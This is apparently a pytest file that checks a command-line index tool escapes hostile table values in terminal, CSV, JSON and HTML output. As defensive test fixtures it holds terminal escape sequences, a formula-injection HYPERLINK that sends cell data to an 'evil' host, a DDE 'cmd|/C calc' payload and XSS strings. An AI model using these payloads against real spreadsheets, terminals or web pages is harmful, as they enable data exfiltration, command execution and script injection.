"""What commands write: to terminals of any width and encoding, to readers that go away, and to files."""

from __future__ import annotations

import csv
import io
import json
import os
import pty
import re
import subprocess
import sys
from pathlib import Path

import pytest

HOSTILE = "\x1b]0;PWNED\x07\x1b[2JPica\u202e\x9b31m\x07\nok   forged"
FORMULA = '=HYPERLINK("http://evil/?"&A1)'


@pytest.fixture(scope="module")
def index(tmp_path_factory):
    """40 places; names, rights and a column's name that steer terminals and spreadsheets; two rows refused."""
    from prom3e_index.indexer.build import build
    from prom3e_index.indexer.work import BuildConfig

    folder = tmp_path_factory.mktemp("hostile")
    with (folder / "t.csv").open("w", newline="", encoding="utf-8") as f:
        write = csv.writer(f)
        write.writerow(["id", "lat", "lon", "scientific_name", "rights_holder", "note", "+column"])
        for i in range(40):
            note = ["-2+3+cmd|' /C calc'!A0", "-2.5", "＝1", 'say "a, b"\nthen'][i % 4]
            write.writerow([f"@{i}", i + 1, -i, HOSTILE, FORMULA, note, "long word " * 30])
        write.writerow(["bad\x1b[31m", 91, 0, "x", "", "", ""])
    build(BuildConfig(table=str(folder / "t.csv"), out=folder / "i.p3i", model="mini"))
    return folder / "i.p3i"


@pytest.fixture
def program(index):
    def call(*words, **more):
        command = [sys.executable, "-m", "prom3e_index.cli.app", *map(str, words)]
        env = {k: v for k, v in os.environ.items() if k not in ("NO_COLOR", "PYTHONIOENCODING")}
        env |= {"PROM3E_INDEX": str(index), "TERM": "xterm-256color", **more.pop("env", {})}
        return command, env

    return call


@pytest.fixture
def written(index, monkeypatch):
    """Run a command in this process with streams of an encoding: (exit code, stdout, stderr), as bytes."""
    from prom3e_index.cli import app

    def call(encoding, *words):
        streams = [io.TextIOWrapper(io.BytesIO(), encoding=encoding, newline="") for _ in range(2)]
        with monkeypatch.context() as patch:
            patch.setattr(sys, "stdout", streams[0])
            patch.setattr(sys, "stderr", streams[1])
            patch.setattr(sys, "argv", ["prom3e-index", *words])
            patch.setenv("PROM3E_INDEX", str(index))
            with pytest.raises(SystemExit) as stop:
                app.main()
        for stream in streams:
            stream.flush()
        return stop.value.code or 0, *(s.buffer.getvalue() for s in streams)

    return call


@pytest.fixture
def terminal(program):
    """What a terminal of some width gets."""

    def call(*words, columns=120, **env):
        command, env = program(*words, env={"COLUMNS": str(columns), "LINES": "50", **env})
        mine, theirs = pty.openpty()
        with subprocess.Popen(command, stdout=theirs, stderr=theirs, env=env) as process:
            os.close(theirs)
            got = b""
            while True:
                try:
                    some = os.read(mine, 65536)
                except OSError:  # the other side is closed
                    break
                if not some:
                    break
                got += some
        os.close(mine)
        return process.returncode, got.decode()

    return call


ASK = ("query", "--location", "1,1", "-t", "image", "-k", "3")


def strict(text):
    def refuse(word):
        raise ValueError(word)

    return json.loads(text, parse_constant=refuse)


def test_a_table_text_steers_no_terminal(terminal):
    for words in (
        ASK,
        ("info", "--lost"),
        ("query", "--location", "1,1", "-o", "/nowhere/\x1b[2J"),
    ):
        _, got = terminal(*words)
        bold = re.sub("\x1b\\[[01]m", "", got)  # the head of our own table
        assert not re.search("[\x00-\x08\x0b-\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e]", bold), words
        assert "\\x1b" in got and "forged" not in [line.strip()[5:] for line in got.splitlines()]
    assert "\x1b[1m" in terminal(*ASK)[1]


def test_no_color_means_no_escapes_at_all(terminal):
    for env in ({"NO_COLOR": "1"}, {"TERM": "dumb"}):
        code, got = terminal(*ASK, **env)
        assert code == 0 and "\x1b" not in got and "score" in got
    assert "\x1b[1m" in terminal(*ASK, NO_COLOR="")[1]  # an empty one says nothing


@pytest.mark.parametrize("columns", [1, 7, 20, 40, 80, 160])
def test_nothing_vanishes_at_any_width(index, columns):
    from prom3e_index import Bundle, Query
    from prom3e_index.cli.render import table
    from prom3e_index.show.escapes import shown

    answer = Bundle.open(index).search(Query(location=(1, 1), target="image", k=3))
    text = table(answer, width=columns)
    whole = re.sub(r"\s", "", text)
    for h in answer.hits:
        place = f"{h.fields['latitude']:.3f},{h.fields['longitude']:.3f}"
        for value in (f"{h.score:.4f}", h.fields["id"], place if columns < 80 else ""):
            assert re.sub(r"\s", "", shown(value)) in whole
    if columns in (1, 7, 20, 40):  # a paragraph a hit: every cell stands whole
        for value in (HOSTILE, FORMULA):
            assert re.sub(r"\s", "", shown(value)) in whole
    assert all(len(line) <= columns for line in text.splitlines())


@pytest.mark.parametrize("encoding", ["ascii", "latin-1", "cp1252", "utf-8"])
def test_any_encoding_of_the_streams(written, encoding):
    for words in (ASK, ("info", "--lost"), ("info",), ("history",)):
        code, out, err = written(encoding, *words)
        assert code == 0 and not err and out.decode(encoding)
    if encoding == "ascii":
        text = written(encoding, *ASK, "--explain")[1].decode("ascii")
        assert "loc -> image" in text and "||sigma||1" in text
    for kind in ("json", "jsonl", "csv", "geojson"):
        text = written(encoding, *ASK, "-f", kind)[1].decode("utf-8")
        if kind == "csv":
            names = [r["scientific_name"] for r in csv.DictReader(io.StringIO(text, newline=""))]
        elif kind == "jsonl":
            names = [strict(line)["scientific_name"] for line in text.splitlines()]
        elif kind == "json":
            names = [h["scientific_name"] for h in strict(text)["hits"]]
        else:
            names = [f["properties"]["scientific_name"] for f in strict(text)["features"]]
        assert names == [HOSTILE] * 3, kind
    code, _, err = written(encoding, "query", "--text", "x", "--index", "→σ")
    assert code == 2 and err.count(b"\n") == 1


@pytest.mark.parametrize("words", [
    ("query", "--location", "1,1", "-k", "40", "-f", "json"), ("query", "--location", "1,1", "-k", "40", "-f", "csv"),
    ("query", "--location", "1,1", "-k", "40"), ("info", "--json"), 
     ("--help",),
])  # fmt: skip
def test_a_reader_that_goes_away_is_no_error(program, words):
    command, env = program(*words)
    process = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env)
    process.stdout.close()  # before a byte is read: every write fails
    err = process.stderr.read()
    process.wait()
    process.stderr.close()
    assert all(line.startswith(b"note: ") for line in err.splitlines())
    assert process.returncode in (1, 141)


def test_a_full_device_is_said(program):
    command, env = program("info", "--json")
    with Path("/dev/full").open("w") as full:
        done = subprocess.run(command, stdout=full, stderr=subprocess.PIPE, env=env)
    assert done.returncode == 2 and done.stderr.startswith(b"Error: the disk is full")
    assert done.stderr.count(b"\n") == 1


def test_a_report_shows_a_tables_text_as_text(index, tmp_path):
    from test_escapes import Elements

    from prom3e_index import Bundle, Query
    from prom3e_index.search.answered import Answer, Hit
    from prom3e_index.show.report import write_report

    bundle = Bundle.open(index)
    answer = bundle.search(Query(location=(1, 1), target="image", k=2))
    bad = "<script>alert(1)</script>\"'><img src=x onerror=alert(2)>"
    given = {"id": bad, "latitude": 1.0, "longitude": 2.0}
    fields = (
        dict.fromkeys(("scientific_name", "license", "rights_holder", "event_date"), bad) | given
    )
    hits = (Hit(1, 0, 0.5, True, ("loc",), None, fields), *answer.hits)
    lost = Hit(4, 3, 0.1, True, ("loc",), None, fields | {"latitude": float("nan")})
    sure = {"p_right": 0.5, "interval": [0.4, 0.6], "rows": 9, "right": 5, "rule": "species", "hit": 1,
            "source": "index", "ece": 0.1, "reason": None}  # fmt: skip
    told = {"confidence": sure, "species_set": {"level": 0.9, "names": [bad], "reason": bad},
            "add_next": {"modality": bad, "failure_change": -0.5, "rows": 30, "no_help": [bad]},
            "expected_error": {bad: {"value": 0.1, "interval": [0, 1]}}}  # fmt: skip
    query = answer.query | {"filters": {"where": bad}} | told
    search = answer.search | {"notes": [bad], "path": bad}
    write_report(tmp_path / "r.html", bundle, [Answer(query, (*hits, lost), search)], [], None)
    text = (tmp_path / "r.html").read_text(encoding="utf-8")
    page = Elements(text)

    assert "script" not in page.tags and not page.handlers
    assert page.words.count(bad) >= 14 and "nan" not in text.replace(bad, "")
    assert "\x1b" not in text and "\u202e" not in text and "\\x1b]0;PWNED" in page.words
